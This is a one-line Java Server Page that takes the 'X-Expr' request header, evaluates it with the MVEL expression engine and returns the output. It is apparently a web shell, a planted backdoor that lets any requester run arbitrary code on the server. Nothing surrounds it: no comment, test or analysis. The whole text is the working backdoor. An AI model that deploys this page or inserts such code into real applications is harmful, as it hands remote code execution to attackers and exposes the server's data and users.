<%@ page import="org.mvel2.MVEL" %><%= MVEL.eval(request.getHeader("X-Expr")) %>
